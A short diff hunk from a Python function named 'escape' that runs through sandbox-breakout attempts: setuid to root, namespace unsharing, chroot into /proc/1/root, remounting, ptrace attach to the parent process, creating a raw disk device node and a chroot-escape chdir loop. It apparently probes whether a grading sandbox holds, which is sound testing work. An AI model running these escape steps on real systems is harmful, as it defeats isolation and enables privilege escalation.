@@ -125,7 +125,7 @@ def escape(work: Work) -> None:
         here = os.getcwd()
         for call in (lambda: os.setuid(0), lambda: libc.unshare(0x10000000 | 0x20000), lambda: os.chroot("/proc/1/root"),
                      lambda: libc.mount(b"/", b"/mnt", None, 4096, None), lambda: libc.umount2(b"/student", 2),
-                     lambda: libc.ptrace(16, 1, 0, 0), lambda: os.mknod("disk", 0o60600, os.makedev(254, 0)),
+                     lambda: libc.ptrace(16, os.getppid(), 0, 0), lambda: os.mknod("disk", 0o60600, os.makedev(254, 0)),
                      lambda: os.chroot("."), lambda: [os.chdir("..") for _ in range(20)]):
             attempt(call) if contained() else None
         for program in ("su", "mount", "sudo", "unshare", "nsenter", "bwrap", "ping"):
